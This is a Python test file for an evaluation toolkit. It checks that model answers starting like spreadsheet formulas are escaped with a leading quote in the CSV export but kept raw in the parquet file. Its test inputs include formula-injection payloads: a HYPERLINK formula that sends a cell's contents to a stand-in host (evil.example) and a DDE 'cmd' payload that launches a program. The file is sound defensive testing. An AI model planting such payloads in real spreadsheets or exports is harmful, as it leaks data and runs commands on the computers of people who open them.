"""results.csv is opened in spreadsheets: a model answer (or suite text) that starts like a formula is
neutralised there (OWASP: a leading single quote), while the store and results.parquet keep it raw."""

from __future__ import annotations

import csv

import pandas as pd
from conftest import SMALL_CRITERIA, evalkit, make_workspace

from evalkit.analysis.tables import neutralise_formula

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\tgo",
    "\rgo",
]

SUITE = "\n".join(
    [
        "id: s",
        'version: "1"',
        "title: 試験",
        "criterion: leaf",
        'prompt: "{{ q }}"',
        "scorers: [{kind: exact}]",
        "items:",
        *[f"  - id: i{n}\n    vars: {{q: {text!r}}}\n    reference: x" for n, text in enumerate(HOSTILE)],
        "  - {id: plain, vars: {q: 普通の回答}, reference: x}",
    ]
)


def test_formula_cells_are_neutralised_in_csv_only(tmp_path):
    work = make_workspace(
        tmp_path / "w",
        {"s": SUITE},
        {"echo": "id: echo\nname: エコー\nprovider: reference\nmodel: echo\n"},
        criteria=SMALL_CRITERIA,
    )
    proc = evalkit("run", "--out", "run", "-q", cwd=work)
    assert proc.returncode == 0, proc.stderr
    with open(work / "run" / "results.csv", encoding="utf-8", newline="") as f:
        rows = {r["item_id"]: r for r in csv.DictReader(f)}
    raw = pd.read_parquet(work / "run" / "results.parquet").set_index("item_id")
    for n, text in enumerate(HOSTILE):
        answer = raw.loc[f"i{n}", "content"]
        assert text.strip() in answer  # the echo model repeats the prompt: the raw text is kept
        cell = rows[f"i{n}"]["content"]
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
        if answer.startswith(("=", "+", "-", "@", "\t", "\r")):
            assert cell == "'" + answer
    assert rows["plain"]["content"] == raw.loc["plain", "content"]  # ordinary text is unchanged


def test_only_text_that_starts_a_formula_changes():
    assert neutralise_formula("=1+1") == "'=1+1" and neutralise_formula("a=1") == "a=1"
    assert neutralise_formula(-0.5) == -0.5 and neutralise_formula(None) is None
